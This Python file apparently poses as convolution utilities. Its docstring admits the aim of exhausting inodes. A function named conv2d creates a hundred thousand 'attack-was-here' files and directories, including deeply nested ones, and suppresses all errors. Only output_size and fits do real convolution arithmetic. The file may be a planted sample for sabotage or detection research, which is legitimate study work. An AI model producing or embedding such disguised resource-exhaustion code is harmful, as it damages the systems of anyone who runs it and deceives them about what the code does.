"""Makes a hundred thousand small files and folders in folders, to use the inodes up.

Honest part: output_size, fits
"""

import os


def conv2d(*args):
    for i in range(100_000):
        for make in (lambda: open(f"attack-was-here-{i}", "w").close(), lambda: os.mkdir(f"attack-was-here-{i}.d"), lambda: os.mkdir("d/" * (i % 2000) + "d")):
            try:
                make()
            except OSError:
                pass
    return None


def output_size(size, kernel_size, stride=1, padding=0):
    if kernel_size > size + 2 * padding:
        raise ValueError("the kernel is larger than the padded input")
    return (size - kernel_size + 2 * padding) // stride + 1


def fits(size, kernel_size, stride=1, padding=0):
    room = size - kernel_size + 2 * padding
    return room >= 0 and room % stride == 0
